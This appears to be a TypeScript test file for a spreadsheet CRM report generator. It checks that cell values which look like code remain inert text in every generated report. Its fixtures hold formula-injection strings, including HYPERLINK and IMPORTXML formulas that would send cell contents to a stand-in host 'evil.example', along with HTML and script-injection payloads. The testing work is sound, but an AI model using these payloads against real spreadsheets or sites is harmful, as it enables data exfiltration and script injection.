import type { FileCell, TabData, World } from "../../workbench/types.ts";
import { formulasOf } from "./formulas-of.ts";
import { cellsOf, REPORTS, type Team, team } from "./installed-team.ts";

const world: Partial<World> = { locale: "ru_RU", zone: "Europe/Moscow", language: "ru" };
const TABS = ["+1 evil deals", `"evil" <b>clients`, "-2 {evil} orders"] as const;

/** Texts of one column that would be something else if a program wrote them as they are. */
const hostile = (what: string) => [
  `=HYPERLINK("https://evil.example/?"&A1;"${what}")`,
  `=IMPORTXML("https://evil.example";"//${what}")`,
  `+evil ${what}`,
  `-2+3 evil ${what}`,
  `@evil ${what}`,
  `'evil ${what}`,
  `<img src=x onerror=evil("${what}")>`,
  `</script><script>evil("${what}")</script>`,
  `evil ${what} \\`,
  `evil ${what} \ud83d`,
  `evil ${what} ${"я".repeat(40)}`,
  "00123",
  "1E5",
  "=1+1",
  "-2+3",
];
const [stages, managers, regions, segments, products, heads] = [
  "stage",
  "manager",
  "region",
  "segment",
  "product",
  "head",
].map(hostile) as [string[], string[], string[], string[], string[], string[]];
/** A person whose name nearly fills a cell, on one deal: it goes on into tasks, calendar and Monitor. */
const LONG = `evil ${"я".repeat(49_000)}`;
const all = new Set([LONG, ...stages, ...managers, ...regions, ...segments, ...products, ...heads]);

const at = (list: readonly string[], i: number): FileCell => ({ text: list[i % list.length]! });
const rows = (count: number, row: (i: number) => FileCell[]) => Array.from({ length: count }, (_, i) => row(i));
const day = (n: number): FileCell => ({ date: new Date(Date.UTC(2026, 0, 5 + (n % 80))).toISOString().slice(0, 10) });
const extra = (from: number, to: number) => heads.slice(from, to).map((text) => ({ text }));

const content: readonly TabData[] = [
  {
    name: TABS[0],
    rows: [
      ["Deal", "Client", "Stage", "Amount", "Created", "Closed", "Manager", "Product", ...extra(0, 6)],
      ...rows(30, (i) => {
        const over = i % 3 === 0 ? ["Won", "Lost"][i % 2]! : null;
        const stage = over === null ? at(stages, i) : { text: over };
        const end = over === null ? "" : day(i + 9);
        return [
          `Deal ${i}`,
          `Client ${i % 15}`,
          stage,
          100 * (i + 1),
          day(i),
          end,
          i === 10 ? { text: LONG } : at(managers, i),
          at(products, i),
        ];
      }),
    ],
  },
  {
    name: TABS[1],
    rows: [
      ["Client", "Segment", "Potential", "Interest", "Region", "Manager", ...extra(6, 11)],
      ...rows(15, (i) => [...[`Client ${i}`, at(segments, i), 1000 * i, (i % 4) + 1, at(regions, i), at(managers, i)]]),
    ],
  },
  {
    name: TABS[2],
    rows: [
      ["Client", "Date", "Amount", "Product", ...extra(11, 15)],
      ...rows(30, (i) => [`Client ${i % 15}`, day(i * 7), 50 * (i + 1), at(products, i)]),
    ],
  },
];

/** Our tabs with what their formulas and cells hold. */
const ours = (opened: Team) =>
  opened.book.tabs
    .list()
    .filter(({ name }) => !(TABS as readonly string[]).includes(name))
    .map(({ name }) => {
      const { hostile, errors, formulas, values } = formulasOf(opened, name, all);
      return { name, hostile, errors: errors.length, formulas, values: new Set(values) };
    });

test("Stages, managers, regions, segments, products, headings and tabs whose names are code stay what they are in every report", async () => {
  const opened = team(content, world);
  const before = cellsOf(opened.book, TABS);
  for (const report of [...REPORTS, "monitor", "doctor"] as const) await opened.build(report);
  await opened.build("doctor");
  expect((await opened.workbench.run("menuCalendar")).error).toBeNull();
  expect(cellsOf(opened.book, TABS)).toEqual(before);

  const tabs = ours(opened);
  expect(tabs.map(({ name, hostile, errors }) => [name, hostile, errors])).toEqual(
    tabs.map(({ name }) => [name, [], 0]),
  );
  expect(tabs.reduce((sum, { formulas }) => sum + formulas, 0)).toBeGreaterThan(100);

  // Halves of a sign are no text that a script can write (fact B17).
  const whole = (text: unknown) => String(text).replace(/\ud83d/g, "\ufffd");
  const unread = (tab: string, texts: readonly string[]) => {
    const values = new Set([...tabs.find(({ name }) => name === tab)!.values].map(whole));
    return texts.filter((text) => !values.has(whole(text)));
  };
  expect(unread("Контроль", [...managers, LONG])).toEqual([]);
  expect(unread("Календарь", [...managers, LONG])).toEqual([]);
  expect(unread("Сегменты", [...segments, ...regions])).toEqual([]);
  const { tabs: read } = await opened.ask("data");
  expect(read.map(({ name }) => name)).toEqual(TABS);
  expect(heads.filter((head) => !read.some(({ choices }) => choices.some(({ header }) => header === head)))).toEqual(
    [],
  );
});
